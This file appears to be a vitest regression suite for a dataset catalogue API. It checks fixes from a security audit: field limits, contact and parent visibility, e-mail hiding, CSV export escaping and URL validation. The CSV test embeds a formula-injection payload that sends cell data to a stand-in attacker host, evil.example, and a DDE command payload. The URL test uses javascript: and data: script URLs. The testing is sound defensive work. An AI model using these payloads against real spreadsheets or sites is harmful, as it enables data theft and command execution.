import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { Fixtures, unique } from '../support/fixtures.ts';
import { type Client, contractDrifts, startServer, type TestServer } from '../support/server.ts';

// Findings of the security audit of 2026-11-25 on datasets, their contacts and resources
// (/work/shared/audits/security-2026-11-25.md): H4 (keywords and description bounds), M2, M5, L1, L2, L5.

let server: TestServer;
let f: Fixtures;
let admin: Client;
let producteur: Client;
let visiteur: Client;
/** A group none of the demo accounts but the superuser belongs to (the Parc amazonien). */
let otherGroup: number;
/** A contact of that group. */
let otherContact: number;

beforeAll(async () => {
  server = await startServer();
  f = await Fixtures.create(server);
  admin = f.admin;
  producteur = f.client('producteur');
  visiteur = f.client('visiteur');
  const [group] = await server.app.db.query<{ id: number }>(
    `select g.id from usergroup g where g.usergroup_type = 'organisation'
       and not exists (select 1 from membership m join app_user u on u.id = m.user_id
                       where m.usergroup_id = g.id and u.username in ('producteur', 'gestionnaire', 'visiteur'))
     order by g.id limit 1`,
  );
  if (!group) throw new Error('no group outside the demo accounts');
  otherGroup = group.id;
  otherContact = await f.contact(otherGroup);
}, 60_000);

afterAll(async () => {
  expect(contractDrifts(server)).toEqual([]);
  await server?.close();
});

/** A dataset of the CACL (producteur manages it) created by producteur, with its version. */
async function ownDataset(extra: Record<string, unknown> = {}) {
  const answer = await producteur.request<{ id: number; last_modified: string; tags: string[] }>(
    'POST',
    '/fr/dataset/datasets/',
    { json: { ...f.datasetBody(f.ids.cacl), ...extra } },
  );
  expect(answer.status, answer.text).toBe(201);
  return answer.body;
}

const nested = (depth: number) => `${'<blockquote>'.repeat(depth)}texte${'</blockquote>'.repeat(depth)}`;

describe('H4: bounded keywords and description', () => {
  test('H4: 16,000 keywords are refused with 400 at once (they took 6–12 s with the server frozen)', async () => {
    const dataset = await ownDataset();
    const keywords = Array.from({ length: 16_000 }, (_, index) => `mot-clé-${index}`);
    const started = performance.now();
    const answer = await producteur.request<Record<string, string[]>>(
      'PATCH',
      `/fr/dataset/datasets/${dataset.id}/`,
      { json: { tags: keywords } },
    );
    const elapsed = performance.now() - started;
    expect(answer.status, answer.text.slice(0, 300)).toBe(400);
    expect(Object.keys(answer.body)).toEqual(['tags']);
    expect(elapsed).toBeLessThan(2_000);
    console.info(`H4: PATCH of 16,000 keywords answered ${answer.status} in ${elapsed.toFixed(0)} ms`);
  });

  test('H4: 101 keywords, a keyword of 101 characters, a description of 100,001 characters and a name of 20,001 are refused', async () => {
    const dataset = await ownDataset();
    const cases: [string, Record<string, unknown>][] = [
      ['tags', { tags: Array.from({ length: 101 }, (_, index) => `k${index}`) }],
      ['tags', { tags: ['court', 'x'.repeat(101)] }],
      ['description', { description: 'x'.repeat(100_001) }],
      ['display_name', { display_name: 'x'.repeat(20_001) }],
      ['recommended_usage', { recommended_usage: 'x'.repeat(20_001) }],
      ['constitution_mode', { constitution_mode: 'x'.repeat(20_001) }],
    ];
    for (const [field, body] of cases) {
      const answer = await producteur.request<Record<string, string[]>>(
        'PATCH',
        `/fr/dataset/datasets/${dataset.id}/`,
        { json: body },
      );
      expect(answer.status, `${field}: ${answer.text.slice(0, 200)}`).toBe(400);
      expect(Object.keys(answer.body)).toEqual([field]);
    }
    // At the bounds, accepted.
    const answer = await producteur.request<{ tags: string[]; display_name: string }>(
      'PATCH',
      `/fr/dataset/datasets/${dataset.id}/`,
      {
        json: {
          tags: ['y'.repeat(100)],
          description: 'd'.repeat(100_000),
          display_name: 'n'.repeat(20_000),
        },
      },
    );
    expect(answer.status, answer.text.slice(0, 200)).toBe(200);
    expect(answer.body.tags).toEqual(['y'.repeat(100)]);
  });

  test('H4: 100 keywords are written in their order, trimmed and without duplicates, with one set-based write', async () => {
    const dataset = await ownDataset();
    const keywords = Array.from({ length: 100 }, (_, index) => ` mot-${unique('k')}-${index} `);
    // A duplicate (after trimming) and an existing tag among them.
    keywords[50] = keywords[10]?.trim() ?? '';
    keywords[99] = 'transport';
    const started = performance.now();
    const answer = await producteur.request<{ tags: string[] }>(
      'PATCH',
      `/fr/dataset/datasets/${dataset.id}/`,
      { json: { tags: keywords } },
    );
    const elapsed = performance.now() - started;
    expect(answer.status, answer.text.slice(0, 300)).toBe(200);
    const expected = [...new Set(keywords.map((k) => k.trim()))];
    expect(answer.body.tags).toEqual(expected);
    const read = await producteur.request<{ tags: string[] }>('GET', `/fr/dataset/datasets/${dataset.id}/`);
    expect(read.body.tags).toEqual(expected);
    console.info(`H4: PATCH of 100 keywords answered in ${elapsed.toFixed(0)} ms`);
  });

  test('H4: a description nested more than 100 levels deep is refused in the request’s language', async () => {
    const dataset = await ownDataset();
    for (const [locale, words] of [
      ['fr', /imbriqu/],
      ['en', /nest/],
      ['it', /annidat/],
    ] as const) {
      const started = performance.now();
      const answer = await producteur.request<Record<string, string[]>>(
        'PATCH',
        `/${locale}/dataset/datasets/${dataset.id}/`,
        { json: { description: nested(3_000) } },
      );
      const elapsed = performance.now() - started;
      expect(answer.status, answer.text.slice(0, 300)).toBe(400);
      expect(answer.body.description?.[0]).toMatch(words);
      expect(elapsed).toBeLessThan(2_000);
    }
    const create = await producteur.request<Record<string, string[]>>('POST', '/en/dataset/datasets/', {
      json: { ...f.datasetBody(f.ids.cacl), description: nested(101) },
    });
    expect(create.status).toBe(400);
    expect(create.body.description?.[0]).toMatch(/nest/);
    // 100 levels (and void elements, which nest nothing) are kept.
    const accepted = await producteur.request<{ description: string }>(
      'PATCH',
      `/fr/dataset/datasets/${dataset.id}/`,
      { json: { description: `${nested(100)}${'<p>a<br>b</p>'.repeat(200)}` } },
    );
    expect(accepted.status, accepted.text.slice(0, 300)).toBe(200);
  });
});

describe('M2: contacts of a dataset', () => {
  test('M2: a contact of another organisation cannot be attached to one’s dataset; the answer is the one of an unknown id', async () => {
    const dataset = await ownDataset();
    const path = `/fr/dataset/datasets/${dataset.id}/contact-roles/`;
    const other = await producteur.request<Record<string, string[]>>('POST', path, {
      json: { contact_id: otherContact, role: f.ids.contactRole },
    });
    expect(other.status, other.text).toBe(400);
    expect(other.text).not.toContain('@');
    const [{ n: max }] = (await server.app.db.query<{ n: number }>(
      'select max(id) + 1000 as n from contact',
    )) as [{ n: number }];
    const unknown = await producteur.request<Record<string, string[]>>('POST', path, {
      json: { contact_id: max, role: f.ids.contactRole },
    });
    expect(unknown.status).toBe(400);
    expect(other.body.contact_id).toEqual(
      unknown.body.contact_id?.map((m) => m.replace(String(max), String(otherContact))),
    );

    // A contact of the dataset's organisation is accepted, then cannot be swapped for the other one.
    const own = await producteur.request<{ id: number }>('POST', path, {
      json: { contact_id: f.ids.caclContact, role: f.ids.contactRole },
    });
    expect(own.status, own.text).toBe(201);
    const swap = await producteur.request<Record<string, string[]>>('PUT', `${path}${own.body.id}/`, {
      json: { contact_id: otherContact, role: f.ids.contactRole },
    });
    expect(swap.status, swap.text).toBe(400);
    expect(Object.keys(swap.body)).toEqual(['contact_id']);
    const contacts = await producteur.request<{ contact: { id: number } }[]>('GET', path);
    expect(contacts.body.map((role) => role.contact.id)).toEqual([f.ids.caclContact]);
  });

  test('M2: a contact attached by the superuser stays when its role is changed; the superuser attaches any contact', async () => {
    const dataset = await ownDataset();
    const path = `/fr/dataset/datasets/${dataset.id}/contact-roles/`;
    const attached = await admin.request<{ id: number }>('POST', path, {
      json: { contact_id: otherContact, role: f.ids.contactRole },
    });
    expect(attached.status, attached.text).toBe(201);
    // Keeping the contact already attached reveals nothing new.
    const kept = await producteur.request('PUT', `${path}${attached.body.id}/`, {
      json: { contact_id: otherContact, role: f.ids.contactRole },
    });
    expect(kept.status, kept.text).toBe(200);
  });
});

describe('M5: CSV export', () => {
  test('M5: cells starting with =, +, -, @, tab or carriage return are prefixed with a quote', async () => {
    const marker = unique('csv');
    const name = `=HYPERLINK("http://evil.example/?"&A1,"${marker}")`;
    const dataset = await ownDataset({
      display_name: name,
      description: '@SUM(1+1)*cmd|’ /C calc’!A0',
      tags: ['+1+1', '-2+3'],
    });
    const answer = await visiteur.request('GET', '/fr/dataset/datasets/export/odl/', {
      query: { search: marker },
    });
    expect(answer.status).toBe(200);
    const line = answer.text.split('\r\n').find((row) => row.startsWith(`${dataset.id},`));
    expect(line).toBeDefined();
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""${marker}"")"`);
    expect(line).toContain("'@SUM(1+1)*cmd|’ /C calc’!A0");
    expect(line).toContain("'+1+1;-2+3");
    // Plain values are left alone.
    expect(line).toContain(',oui,');

    for (const start of ['-', '\t', '\r']) {
      const other = await ownDataset({ display_name: `${start}${marker}` });
      const exported = await visiteur.request('GET', '/fr/dataset/datasets/export/odl/', {
        query: { search: marker },
      });
      const row = exported.text.split('\r\n').find((r) => r.startsWith(`${other.id},`));
      expect(row, JSON.stringify(start)).toMatch(new RegExp(`^${other.id},"?'`));
    }
  });
});

describe('L1: activity', () => {
  test('L1: the activity names its authors without their e-mail address', async () => {
    const dataset = await ownDataset({ default_permission_level: 'download' });
    const answer = await visiteur.request<{ results: { user: Record<string, unknown> | null }[] }>(
      'GET',
      `/fr/dataset/datasets/${dataset.id}/activity/`,
    );
    expect(answer.status).toBe(200);
    const authors = answer.body.results.map((entry) => entry.user).filter((user) => user !== null);
    expect(authors.length).toBeGreaterThan(0);
    for (const author of authors) {
      expect(Object.keys(author ?? {}).sort()).toEqual(['first_name', 'id', 'last_name', 'username']);
    }
    expect(answer.text).not.toMatch(/@[a-z0-9-]+\.[a-z]/i);
  });
});

describe('L2: parents and children', () => {
  test('L2: children the reader may not see are left out of the list', async () => {
    const parent = await f.dataset(otherGroup);
    await admin.request('PATCH', `/fr/dataset/datasets/${parent.id}/`, {
      json: { default_permission_level: 'download' },
    });
    const secret = unique('Enfant privé');
    const child = await admin.request<{ id: number }>('POST', '/fr/dataset/datasets/', {
      json: { ...f.datasetBody(otherGroup, secret), parent: parent.id, default_permission_level: 'private' },
    });
    expect(child.status, child.text).toBe(201);
    const open = await admin.request<{ id: number }>('POST', '/fr/dataset/datasets/', {
      json: { ...f.datasetBody(otherGroup), parent: parent.id, default_permission_level: 'search' },
    });
    expect(open.status, open.text).toBe(201);

    const read = await visiteur.request<{ children: { id: number }[] }>(
      'GET',
      `/fr/dataset/datasets/${parent.id}/`,
    );
    expect(read.status).toBe(200);
    expect(read.body.children.map((c) => c.id)).toEqual([open.body.id]);
    expect(read.text).not.toContain(secret);
    const list = await visiteur.request<{ results: { id: number; children: { id: number }[] }[] }>(
      'GET',
      '/fr/dataset/datasets/',
      {
        query: {
          search: (await admin.request<{ display_name: string }>('GET', `/fr/dataset/datasets/${parent.id}/`))
            .body.display_name,
        },
      },
    );
    const listed = list.body.results.find((d) => d.id === parent.id);
    expect(listed?.children.map((c) => c.id)).toEqual([open.body.id]);
    // The superuser sees both.
    const all = await admin.request<{ children: { id: number }[] }>(
      'GET',
      `/fr/dataset/datasets/${parent.id}/`,
    );
    expect(all.body.children.map((c) => c.id).sort()).toEqual([child.body.id, open.body.id].sort());
  });

  test('L2: a parent the author may not see answers as an unknown one; a visible parent is accepted', async () => {
    const [{ n: unknownId }] = (await server.app.db.query<{ n: number }>(
      'select max(id) + 1000 as n from dataset',
    )) as [{ n: number }];
    const hidden = f.ids.ctgPrivateDataset;
    const invisible = await producteur.request<Record<string, string[]>>('POST', '/fr/dataset/datasets/', {
      json: { ...f.datasetBody(f.ids.cacl), parent: hidden },
    });
    const unknown = await producteur.request<Record<string, string[]>>('POST', '/fr/dataset/datasets/', {
      json: { ...f.datasetBody(f.ids.cacl), parent: unknownId },
    });
    expect(invisible.status, invisible.text).toBe(400);
    expect(unknown.status).toBe(400);
    expect(invisible.body.parent).toEqual(
      unknown.body.parent?.map((m) => m.replace(String(unknownId), String(hidden))),
    );

    const dataset = await ownDataset();
    const patched = await producteur.request('PATCH', `/fr/dataset/datasets/${dataset.id}/`, {
      json: { parent: hidden },
    });
    expect(patched.status, patched.text).toBe(400);
    const children = await admin.request<{ children: { id: number }[] }>(
      'GET',
      `/fr/dataset/datasets/${hidden}/`,
    );
    expect(children.body.children.map((c) => c.id)).not.toContain(dataset.id);

    // A dataset the author sees (the CACL's private one, or another organisation's public one) is a parent.
    const visible = await producteur.request('PATCH', `/fr/dataset/datasets/${dataset.id}/`, {
      json: { parent: f.ids.caclPrivateDataset },
    });
    expect(visible.status, visible.text).toBe(200);
  });
});

describe('L5: URL references', () => {
  test('L5: href and file-download records take only absolute http(s) URLs, on creation and update', async () => {
    for (const kind of ['href', 'file-download'] as const) {
      const { resource } = await f.linkedResource();
      for (const href of [
        'javascript:alert(9)//http://x',
        'data:text/html,<script>x</script>',
        'ftp://example.org/a',
        '/relative/path',
      ]) {
        const answer = await producteur.request<Record<string, string[]>>('POST', `/en/resource/${kind}/`, {
          json: { resource_id: resource, href },
        });
        expect(answer.status, `${kind} ${href}: ${answer.text}`).toBe(400);
        expect(Object.keys(answer.body)).toEqual(['href']);
      }
      const good = await producteur.request<{ id: number }>('POST', `/fr/resource/${kind}/`, {
        json: { resource_id: resource, href: 'HTTPS://example.org/data.csv' },
      });
      expect(good.status, good.text).toBe(201);
      const update = await producteur.request<Record<string, string[]>>(
        'PUT',
        `/fr/resource/${kind}/${good.body.id}/`,
        {
          json: { resource_id: resource, href: 'javascript:alert(9)' },
        },
      );
      expect(update.status, update.text).toBe(400);
      expect(Object.keys(update.body)).toEqual(['href']);
    }
  });
});
